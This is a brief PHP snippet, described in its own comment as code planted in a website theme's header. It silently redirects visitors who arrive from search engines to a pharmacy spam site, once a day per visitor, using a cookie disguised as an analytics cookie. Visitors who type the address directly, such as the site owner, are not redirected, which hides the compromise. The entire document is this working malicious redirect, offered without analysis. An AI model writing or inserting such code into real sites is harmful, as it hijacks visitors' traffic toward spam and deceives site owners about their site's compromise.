<?php
// Planted in a theme's header: visitors coming from a search engine, once a day, are sent to a
// pharmacy spam site; everyone else (the site's owner, who types the address) sees nothing.
$ref = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';
if (preg_match('/google\.|yahoo\.|bing\.|yandex\.|baidu\./i', $ref) && !isset($_COOKIE['__utmx'])) {
    setcookie('__utmx', '1', time() + 86400, '/');
    header('Location: http://cheap-pills.example.org/?k=' . urlencode($_SERVER['HTTP_HOST']));
    exit;
}
